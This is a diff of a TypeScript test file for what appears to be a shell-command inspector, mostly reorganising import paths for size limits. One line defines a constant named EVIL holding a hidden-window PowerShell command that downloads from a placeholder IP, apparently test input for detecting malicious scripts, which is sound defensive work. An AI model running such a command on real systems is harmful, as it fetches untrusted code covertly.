@@ -2,13 +2,13 @@
 
 import assert from 'node:assert/strict'
 import { suite, test } from 'node:test'
+import { VALUES_MAX } from '#inspect/judge/scripts/downloads.ts'
+import { SCRIPT_MAX } from '#inspect/judge/scripts/host-scripts.ts'
+import { NESTED_MAX } from '#inspect/judge/scripts/powershell.ts'
+import { ALTERNATIVES_MAX, LINE_MAX } from '#inspect/programs/shells/batch.ts'
+import { TEXT_MAX } from '#inspect/programs/shells/powershell/splitting.ts'
 import { ourInspector } from '#inspect/testing/inspector.ts'
-import { ALTERNATIVES_MAX, LINE_MAX } from './batch.ts'
-import { VALUES_MAX } from './downloads.ts'
-import { SCRIPT_MAX } from './host-scripts.ts'
-import { NESTED_MAX } from './powershell.ts'
 import { SENT_MAX } from './script.ts'
-import { TEXT_MAX } from './statements.ts'
 
 const inspector = await ourInspector()
 const EVIL = 'powershell -w hidden iwr http://192.0.2.1/a'
